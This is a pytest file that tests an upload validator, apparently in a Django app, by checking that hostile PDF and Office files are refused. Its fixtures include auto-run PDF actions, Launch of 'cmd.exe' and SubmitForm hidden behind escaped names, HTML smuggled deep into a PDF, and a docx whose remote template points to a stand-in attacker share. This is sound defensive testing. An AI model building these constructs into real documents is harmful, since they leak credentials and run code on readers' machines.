"""Round two: opening actions, remote files, HTML deep in a PDF, remote templates, OLE objects."""

import io

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from assessments.models import Evidence
from tests.security.test_upload_refusals import office, pdf, stored_files, upload

pytestmark = pytest.mark.django_db

DOCX_TYPES = "<Types/>"
REMOTE_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="\\\\attacker\\share\\t.dotm" '
    'TargetMode="External"/></Relationships>'
)
HYPERLINK = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="https://example.org/law" TargetMode="External"/>'
    "</Relationships>"
)


def pdf_with(where: str, action: dict) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    value = DictionaryObject({NameObject(k): v for k, v in action.items()})
    if where == "open":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(value)
    elif where == "document":
        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/O"): value})
    else:
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): value})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def uri(link="http://example.org/"):
    return {"/S": NameObject("/URI"), "/URI": TextStringObject(link)}


GOTOR = {"/S": NameObject("/GoToR"), "/F": TextStringObject("\\\\attacker\\share\\x.pdf")}

REFUSED = {
    "opening action that visits a URI": (pdf_with("open", uri()), "/OpenAction"),
    "opening action that opens a network share": (pdf_with("open", GOTOR), "/GoToR"),
    "document-level additional action": (pdf_with("document", uri()), "/AA"),
    "page-level additional action": (pdf_with("page", GOTOR), "/AA"),
    "SubmitForm written with escapes": (
        pdf(raw_extra=b"\n9 0 obj << /S /Sub#6DitForm /F (http://x) >> endobj\n"),
        "/SubmitForm",
    ),
    "ImportData": (pdf(raw_extra=b"\n9 0 obj << /S /ImportData >> endobj\n"), "/ImportData"),
    "Launch with an escaped name": (
        pdf(raw_extra=b"\n9 0 obj << /S /#4Caunch /F (cmd.exe) >> endobj\n"),
        "/Launch",
    ),
    "HTML after the first 4 KB": (
        pdf(raw_extra=b"\n%" + b"x" * 6000 + b"\n<html><body><script>alert(1)</script>"),
        "not a PDF",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_a_pdf_with_active_content_is_refused(client_for, response, focal_point, case):
    content, reason = REFUSED[case]
    before = stored_files()
    page = upload(client_for(focal_point), response, "law.pdf", content)
    assert page.status_code == 400
    assert reason in page.content.decode()
    assert not Evidence.objects.exists() and stored_files() == before


OFFICE_REFUSED = {
    "docx with a remote template": (
        {
            "[Content_Types].xml": DOCX_TYPES,
            "word/document.xml": "<d/>",
            "word/_rels/settings.xml.rels": REMOTE_TEMPLATE,
        },
        "loads content from elsewhere",
    ),
    "docx with an embedded OLE object": (
        {
            "[Content_Types].xml": DOCX_TYPES,
            "word/document.xml": "<d/>",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
        },
        "embedded objects",
    ),
    "xlsx with an external link": (
        {
            "[Content_Types].xml": DOCX_TYPES,
            "xl/workbook.xml": "<w/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": REMOTE_TEMPLATE.replace(
                "attachedTemplate", "externalLinkPath"
            ),
        },
        "loads content from elsewhere",
    ),
}


@pytest.mark.parametrize("case", list(OFFICE_REFUSED), ids=list(OFFICE_REFUSED))
def test_an_office_file_that_reaches_out_or_embeds_objects_is_refused(
    client_for, response, focal_point, case
):
    parts, reason = OFFICE_REFUSED[case]
    page = upload(client_for(focal_point), response, "law.docx", office(parts))
    assert page.status_code == 400
    assert reason in page.content.decode()
    assert not Evidence.objects.exists()


def test_links_a_reader_clicks_and_an_opening_page_are_accepted(client_for, response, focal_point):
    client = client_for(focal_point)
    docx = office(
        {
            "[Content_Types].xml": DOCX_TYPES,
            "word/document.xml": "<d/>",
            "word/_rels/document.xml.rels": HYPERLINK,
        }
    )
    assert upload(client, response, "law.docx", docx).status_code == 302
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.org/law"))
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
    buffer = io.BytesIO()
    writer.write(buffer)
    assert upload(client, response, "law.pdf", buffer.getvalue()).status_code == 302
    assert Evidence.objects.count() == 2
